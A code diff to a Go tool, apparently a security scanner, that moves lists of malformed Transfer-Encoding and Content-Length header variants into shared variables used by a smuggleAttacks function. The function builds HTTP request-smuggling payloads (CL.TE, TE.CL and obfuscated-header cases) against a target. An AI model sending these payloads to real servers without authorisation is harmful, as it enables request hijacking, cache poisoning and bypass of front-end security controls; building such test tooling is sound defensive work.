@@ -5,6 +5,40 @@ import (
 	"strings"
 )
 
+// encodings are ways to write Transfer-Encoding that servers disagree on.
+var encodings = map[string]string{
+	"te-space":        "Transfer-Encoding : chunked\r\n",
+	"te-tab":          "Transfer-Encoding:\tchunked\r\n",
+	"te-vertical-tab": "Transfer-Encoding:\vchunked\r\n",
+	"te-upper":        "TRANSFER-ENCODING: CHUNKED\r\n",
+	"te-quoted":       "Transfer-Encoding: \"chunked\"\r\n",
+	"te-unknown":      "Transfer-Encoding: xchunked\r\n",
+	"te-list":         "Transfer-Encoding: identity, chunked\r\n",
+	"te-reversed":     "Transfer-Encoding: chunked, identity\r\n",
+	"te-twice":        "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
+	"te-twice-same":   "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n",
+	"te-folded":       "Transfer-Encoding:\r\n chunked\r\n",
+	"te-bare-lf":      "X: a\nTransfer-Encoding: chunked\n",
+	"te-bare-cr":      "X: a\rTransfer-Encoding: chunked\r\n",
+	"te-nul":          "Transfer-Encoding: chunked\x00\r\n",
+	"te-underscore":   "Transfer_Encoding: chunked\r\n",
+	"te-semicolon":    "Transfer-Encoding: chunked;x\r\n",
+}
+
+// lengths are ways to write Content-Length that servers disagree on.
+var lengths = map[string]string{
+	"cl-twice":      "Content-Length: 0\r\nContent-Length: {length}\r\n",
+	"cl-list":       "Content-Length: 0, {length}\r\n",
+	"cl-plus":       "Content-Length: +{length}\r\n",
+	"cl-space":      "Content-Length : {length}\r\n",
+	"cl-hex":        "Content-Length: 0x{length-hex}\r\n",
+	"cl-negative":   "Content-Length: -{length}\r\n",
+	"cl-fold":       "Content-Length:\r\n {length}\r\n",
+	"cl-underscore": "Content_Length: {length}\r\n",
+	"cl-empty":      "Content-Length: \r\nX: {length}\r\n",
+	"cl-octal":      "Content-Length: 0{length-octal}\r\n",
+}
+
 // smuggleAttacks: bytes that one server reads as the body of a request and the
 // next as another request, with whatever headers it likes.
 func smuggleAttacks(t *Target) []Attack {
@@ -22,39 +56,11 @@ func smuggleAttacks(t *Target) []Attack {
 	const te = "Transfer-Encoding: chunked\r\n"
 	add("cl-te", length+te, chunked)
 	add("te-cl", te+"Content-Length: 4\r\n", "{hex}\r\n"+inner+"\r\n0\r\n\r\n")
-	for id, header := range map[string]string{
-		"te-space":        "Transfer-Encoding : chunked\r\n",
-		"te-tab":          "Transfer-Encoding:\tchunked\r\n",
-		"te-vertical-tab": "Transfer-Encoding:\vchunked\r\n",
-		"te-upper":        "TRANSFER-ENCODING: CHUNKED\r\n",
-		"te-quoted":       "Transfer-Encoding: \"chunked\"\r\n",
-		"te-unknown":      "Transfer-Encoding: xchunked\r\n",
-		"te-list":         "Transfer-Encoding: identity, chunked\r\n",
-		"te-reversed":     "Transfer-Encoding: chunked, identity\r\n",
-		"te-twice":        "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
-		"te-twice-same":   "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n",
-		"te-folded":       "Transfer-Encoding:\r\n chunked\r\n",
-		"te-bare-lf":      "X: a\nTransfer-Encoding: chunked\n",
-		"te-bare-cr":      "X: a\rTransfer-Encoding: chunked\r\n",
-		"te-nul":          "Transfer-Encoding: chunked\x00\r\n",
-		"te-underscore":   "Transfer_Encoding: chunked\r\n",
-		"te-semicolon":    "Transfer-Encoding: chunked;x\r\n",
-	} {
+	for id, header := range encodings {
 		add(id+"-with-length", length+header, chunked)
 		add(id+"-alone", header, chunked)
 	}
-	for id, header := range map[string]string{
-		"cl-twice":      "Content-Length: 0\r\nContent-Length: {length}\r\n",
-		"cl-list":       "Content-Length: 0, {length}\r\n",
-		"cl-plus":       "Content-Length: +{length}\r\n",
-		"cl-space":      "Content-Length : {length}\r\n",
-		"cl-hex":        "Content-Length: 0x{length-hex}\r\n",
-		"cl-negative":   "Content-Length: -{length}\r\n",
-		"cl-fold":       "Content-Length:\r\n {length}\r\n",
-		"cl-underscore": "Content_Length: {length}\r\n",
-		"cl-empty":      "Content-Length: \r\nX: {length}\r\n",
-		"cl-octal":      "Content-Length: 0{length-octal}\r\n",
-	} {
+	for id, header := range lengths {
 		add(id, header, inner)
 	}
 	for id, chunk := range map[string]string{
